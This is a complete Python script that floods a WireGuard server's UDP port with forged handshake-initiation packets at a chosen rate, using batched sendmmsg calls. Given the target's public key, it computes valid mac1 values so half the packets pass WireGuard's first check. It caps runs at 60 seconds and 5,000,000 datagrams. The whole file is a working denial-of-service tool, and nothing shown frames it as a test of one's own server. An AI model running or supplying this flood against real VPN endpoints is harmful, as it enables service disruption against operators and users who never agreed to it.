"""Floods a WireGuard port with fake handshake initiations, bounded in count and time.

usage: flood.py HOST PORT RATE SECONDS [PUBLIC_KEY]
Sends RATE datagrams a second for SECONDS (at most 60 s and 5,000,000
datagrams), paced every millisecond, then prints "sent N in T s (R/s)" (N: the sends that succeeded).
Each datagram is 148 bytes that begin 01 00 00 00, as an initiation does:
half random throughout; with PUBLIC_KEY (the target's, base64), the other
half carry a valid mac1 for it, which anyone who knows the public key can
compute, so they pass WireGuard's first check.
"""
import base64, ctypes, hashlib, os, socket, struct, sys, time

host, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
seconds = min(seconds, 60.0)
limit = min(int(rate * seconds), 5_000_000)

pool = []
key = None
if len(sys.argv) > 5:
    key = hashlib.blake2s(b"mac1----" + base64.b64decode(sys.argv[5])).digest()
for i in range(512):
    msg = bytes([1, 0, 0, 0]) + os.urandom(112)
    if key is not None and i % 2:
        mac1 = hashlib.blake2s(msg, key=key, digest_size=16).digest()
        pool.append(msg + mac1 + bytes(16))
    else:
        pool.append(msg + os.urandom(32))

family = socket.AF_INET6 if ":" in host else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM)
s.setblocking(False)
# Not connected: an ICMP error from a closed port would fail later sends.
if family == socket.AF_INET:
    address = struct.pack("=HH4s8x", family, socket.htons(port), socket.inet_aton(host))
else:
    address = struct.pack("=HHI16sI", family, socket.htons(port), 0,
                          socket.inet_pton(family, host), 0)
address = ctypes.create_string_buffer(address, len(address))


# The pool as sendmmsg(2) vectors: one call sends what is due each
# millisecond, so the rate does not hang on a Python loop keeping up.
class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(Iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]


libc = ctypes.CDLL(None, use_errno=True)
buffers = [ctypes.create_string_buffer(m, len(m)) for m in pool]
iovecs = (Iovec * len(pool))(*[Iovec(ctypes.addressof(b), len(m)) for b, m in zip(buffers, pool)])
msgs = (Mmsghdr * len(pool))()
for i in range(len(pool)):
    msgs[i].hdr.name = ctypes.addressof(address)
    msgs[i].hdr.namelen = len(address)
    msgs[i].hdr.iov = ctypes.pointer(iovecs[i])
    msgs[i].hdr.iovlen = 1
MSG_DONTWAIT = 0x40
size = ctypes.sizeof(Mmsghdr)

sent = ok = 0
start = time.monotonic()
end = start + seconds
while sent < limit:
    now = time.monotonic()
    if now >= end:
        break
    due = min(int((now - start) * rate) + 1, limit)
    while sent < due:
        at = sent % len(pool)
        n = min(due - sent, len(pool) - at)
        got = libc.sendmmsg(s.fileno(), ctypes.byref(msgs, at * size), n, MSG_DONTWAIT)
        # A full socket buffer or a refusal: those are lost, as datagrams may be.
        ok += max(got, 0)
        sent += n
    time.sleep(0.001)
elapsed = time.monotonic() - start
print(f"sent {ok} in {elapsed:.2f} s ({ok / elapsed:.0f}/s)", flush=True)
